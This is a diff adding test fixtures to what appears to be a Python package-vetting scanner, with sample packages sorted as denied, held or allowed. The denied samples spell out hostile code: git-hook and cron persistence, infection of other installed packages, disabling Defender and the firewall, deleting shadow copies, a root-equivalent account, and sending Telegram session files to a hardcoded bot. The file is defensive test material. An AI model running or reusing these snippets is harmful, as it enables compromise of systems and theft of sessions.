@@ -27,6 +27,7 @@ from tests.unit.imports.packages.adversary import init, verdict_cases, vet_packa
 
 H = "198.51.100.7"
 URL = f"http://{H}/x"
+BOT = "1234567890:AAHinertinertinertinertinert00"  # a bot's id and key, made up
 
 
 def called(body: str) -> dict[str, str]:
@@ -119,9 +120,60 @@ DENIED: dict[str, dict[str, str]] = {
         "evpkg/__init__.py": "",
         "evpkg-1.0.data/purelib/zz_evpkg.pth": "import os; os.system('echo pwned')\n",
     },
+    # Persistence places spelt as the parts of a join, and every import folder in a loop.
+    "git-hook-written-by-parts-on-import": init(
+        "import os\nh = os.path.join(os.getcwd(), '.git', 'hooks', 'pre-commit')\n"
+        "open(h, 'w').write('#!/bin/sh\\nid\\n')\n"
+    ),
+    "cron-table-written-by-parts-on-import": init(
+        "import os\nopen(os.path.join('/etc', 'cron.d', 'ev'), 'w').write('* * * * * root id')\n"
+    ),
+    "other-package-infected-in-each-import-folder-on-install": {
+        "setup.py": "import os, site\nfrom setuptools import setup\n"
+        "for d in site.getsitepackages():\n"
+        "    f = os.path.join(d, 'six.py')\n"
+        "    if os.path.exists(f):\n"
+        "        open(f, 'a').write('\\nprint(1)\\n')\n"
+        "setup(name='evpkg')\n",
+        "evpkg/__init__.py": "",
+    },
+    # Defences turned off on install or import.
+    "defender-service-stopped-on-import": init(
+        "import subprocess\nsubprocess.call(['sc', 'config', 'WinDefend', 'start=', 'disabled'])\n"
+    ),
+    "shadow-copies-deleted-in-setup-py": {
+        "setup.py": "import subprocess\nfrom setuptools import setup\n"
+        "subprocess.call('vssadmin delete shadows /all /quiet', shell=True)\nsetup(name='evpkg')\n",
+        "evpkg/__init__.py": "",
+    },
+    "firewall-off-on-import": init(
+        "import subprocess\nsubprocess.call('netsh advfirewall set allprofiles state off', "
+        "shell=True)\n"
+    ),
+    "second-root-account-on-import": init(
+        "import subprocess\nsubprocess.call(['useradd', '-o', '-u', '0', '-g', '0', 'sysd'])\n"
+    ),
+    # A file or host data sent to a bot whose own key is written in the code.
+    "session-folder-zipped-to-an-own-bot-when-called": called(
+        "import os, shutil, requests\n"
+        "a = shutil.make_archive('/tmp/t', 'zip', os.path.join(os.environ['APPDATA'], "
+        "'Telegram Desktop', 'tdata'))\n"
+        f"requests.post('https://api.telegram.org/bot{BOT}/sendDocument', "
+        "files={'document': open(a, 'rb')})"
+    ),
+    "host-name-sent-to-an-own-bot-when-called": called(
+        "import platform, urllib.request, urllib.parse\n"
+        f"api = 'https://api.telegram.org/bot{BOT}/sendMessage?chat_id=1&text='\n"
+        "urllib.request.urlopen(api + urllib.parse.quote(platform.node()))"
+    ),
 }
 
-HELD: dict[str, dict[str, str]] = {}
+HELD: dict[str, dict[str, str]] = {
+    "defender-disabled-when-called": called(
+        "import subprocess\nsubprocess.run(['powershell', '-Command', "
+        "'Set-MpPreference -DisableRealtimeMonitoring $true'])"
+    ),
+}
 
 ALLOWED: dict[str, dict[str, str]] = {
     "curl-download-with-the-environment-as-its-env": called(
@@ -192,6 +244,27 @@ ALLOWED: dict[str, dict[str, str]] = {
         "evpkg.pth": "import evpkg_hook\n",
     },
     "pth-path-lines-only": pth("./evpkg_vendor"),
+    "defender-settings-read-when-called": called(
+        "import subprocess\nsubprocess.run(['powershell', '-Command', 'Get-MpPreference'])"
+    ),
+    "firewall-port-opened-when-called": called(
+        "import subprocess\nsubprocess.call(['netsh', 'advfirewall', 'firewall', 'add', 'rule', "
+        "'name=evpkg', 'dir=in', 'action=allow', 'protocol=TCP', 'localport=8080'])"
+    ),
+    "import-folders-listed-on-import": init(
+        "import os, site\nFOUND = []\nfor d in site.getsitepackages():\n"
+        "    FOUND += [f for f in os.listdir(d) if f.endswith('.dist-info')]\n"
+    ),
+    "own-bot-token-from-the-caller-when-called": called(
+        "import os, urllib.request\n"
+        "t = os.environ['EV_TELEGRAM_TOKEN']\n"
+        "api = 'https://api.telegram.org/bot' + t\n"
+        "urllib.request.urlopen(api + '/sendMessage?chat_id=1&text=done')"
+    ),
+    "git-hooks-folder-listed-on-import": init(
+        "import os\nHOOKS = os.path.join('.git', 'hooks')\n"
+        "NAMES = sorted(os.listdir(HOOKS)) if os.path.isdir(HOOKS) else []\n"
+    ),
 }
 
 
